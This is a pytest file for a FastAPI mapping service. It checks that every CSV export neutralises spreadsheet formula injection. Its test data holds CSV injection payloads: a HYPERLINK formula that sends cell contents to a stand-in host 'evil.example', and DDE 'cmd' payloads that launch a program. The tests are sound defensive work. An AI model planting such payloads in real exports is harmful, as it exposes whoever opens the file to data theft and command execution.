"""Exports cannot attack the people who open them (issue 10 §7): every CSV cell that a
spreadsheet would run as a formula is neutralised, in every CSV the service writes."""

import csv
import io
from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text

from carto import tokens
from carto.db import transaction
from carto.text import SpreadsheetWriter, spreadsheet_safe
from tests.apiworld import MEZE, World, feature

EVIL = '=HYPERLINK("http://evil.example/?"&A1;"clic")'


@pytest.mark.parametrize("cell", [EVIL, "+33 4 67 00 00 00", "-2+3+cmd|' /C calc'!A0",
                                  "@SUM(1+1)*cmd|' /C calc'!A0", "\tx", "\r=1+1"])
def test_formula_starts_are_neutralised(cell: str) -> None:
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Jardin", "", "-0.12", "+3.5", "-12", "1e3", 3, -3.5, None,
                                  "a=b", "'déjà"])
def test_plain_values_stay_as_they_are(cell: object) -> None:
    assert spreadsheet_safe(cell) == cell


def test_the_writer_neutralises_every_cell() -> None:
    buf = io.StringIO()
    SpreadsheetWriter(buf).writerows([[EVIL, "-1", -1, "ok"]])
    assert next(csv.reader(io.StringIO(buf.getvalue()))) == ["'" + EVIL, "-1", "-1", "ok"]


def _rows(body: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body)))


def test_resource_and_link_csv_neutralise_formulas(client: TestClient, world: World) -> None:
    editor = World.auth(world.other_editor)
    ids = []
    for name in (EVIL, "@évil (test)"):
        made = client.post("/api/resources", headers=editor, json=feature(
            name=name, kind="food_aid", territories_=["api-b"], point=MEZE,
            description="-cmd|' /C calc'!A0"))
        assert made.status_code == 201, made.text
        ids.append(made.json()["id"])
    link = client.post("/api/links", headers=editor, json={
        "source": ids[0], "target": ids[1], "category": "aid_associations", "level": 2,
        "territory": "api-b", "description": "+HYPERLINK(\"http://evil.example\")"})
    assert link.status_code == 201, link.text
    try:
        resources = _rows(client.get("/api/resources", params={
            "territory": "api-b", "format": "csv"}).text)
        mine = [r for r in resources if r["id"] in ids]
        assert {r["name"] for r in mine} == {"'" + EVIL, "'@évil (test)"}
        assert {r["description"] for r in mine} == {"'-cmd|' /C calc'!A0"}
        assert all(not r["lon"].startswith("'") for r in resources)
        links = _rows(client.get("/api/links", params={"territory": "api-b",
                                                       "format": "csv"}).text)
        row = next(r for r in links if r["id"] == link.json()["id"])
        assert row["source_name"] == "'" + EVIL
        assert row["description"] == "'+HYPERLINK(\"http://evil.example\")"
    finally:
        lid = link.json()["id"]
        client.delete(f"/api/links/{lid}", headers=editor | {"If-Match": '"1"'})
        for rid in ids:
            client.delete(f"/api/resources/{rid}", headers=editor | {"If-Match": '"1"'})


@pytest.fixture
def admin_token(migrated: str, demo_loaded: object) -> Iterator[str]:
    with transaction(migrated) as session:
        new = tokens.create(session, "admin", None, "export test")
    yield new.token
    with transaction(migrated) as session:
        session.execute(text("DELETE FROM gap_override WHERE created_by LIKE "
                             "'token:%export test'"))
        session.execute(text("UPDATE api_token SET revoked_at = now() WHERE id = :id"),
                        {"id": new.id})


def test_gap_csv_neutralises_a_formula_in_an_override_source(client: TestClient,
                                                             admin_token: str) -> None:
    auth = {"Authorization": f"Bearer {admin_token}"}
    created = client.post("/api/gap/overrides", headers=auth, json={
        "territory": "pezenas", "parameter": "yield_t_ha", "product": "vegetables",
        "value": 21.5, "source": EVIL, "year": 2023})
    assert created.status_code == 201, created.text
    body = client.get("/api/territories/pezenas/gap", params={"format": "csv"}).text
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert EVIL not in cells and any(EVIL in cell for cell in cells)
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    assert not any(cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit()
                   for cell in cells)
